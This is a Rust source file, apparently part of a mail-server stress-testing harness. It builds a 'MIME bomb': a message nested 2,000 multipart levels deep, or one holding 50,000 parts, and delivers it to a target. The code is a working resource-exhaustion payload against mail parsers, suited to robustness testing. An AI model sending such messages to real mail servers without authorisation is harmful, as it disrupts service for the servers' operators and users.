//! A mail of parts within parts, or of very many parts.

use super::super::door::Door;
use super::super::mail;
use super::{Bomb, none};
use std::fmt::Write as _;
use std::io;

pub(super) const BOMB: Bomb = Bomb { name: "MIME bomb", throw: |door, n| Box::pin(throw(door, n)), models: none };

const DEPTH: usize = 2_000;
const PARTS: usize = 50_000;

async fn throw(door: &Door, n: u64) -> io::Result<String> {
    let message = if n.is_multiple_of(2) { deep(n) } else { wide(n) };
    mail::deliver(door, message.as_bytes()).await
}

fn deep(n: u64) -> String {
    let mut message = mail::head(n, "multipart/mixed; boundary=b0");
    for level in 0..DEPTH {
        // A string takes what is written to it.
        let _always = write!(message, "\r\n--b{level}\r\nContent-Type: multipart/mixed; boundary=b{}\r\n", level + 1);
    }
    message.push_str("\r\ntext\r\n");
    message
}

fn wide(n: u64) -> String {
    let mut message = mail::head(n, "multipart/mixed; boundary=b");
    message.push_str("\r\n");
    message.push_str(&"--b\r\n\r\na\r\n".repeat(PARTS));
    message.push_str("--b--\r\n");
    message
}
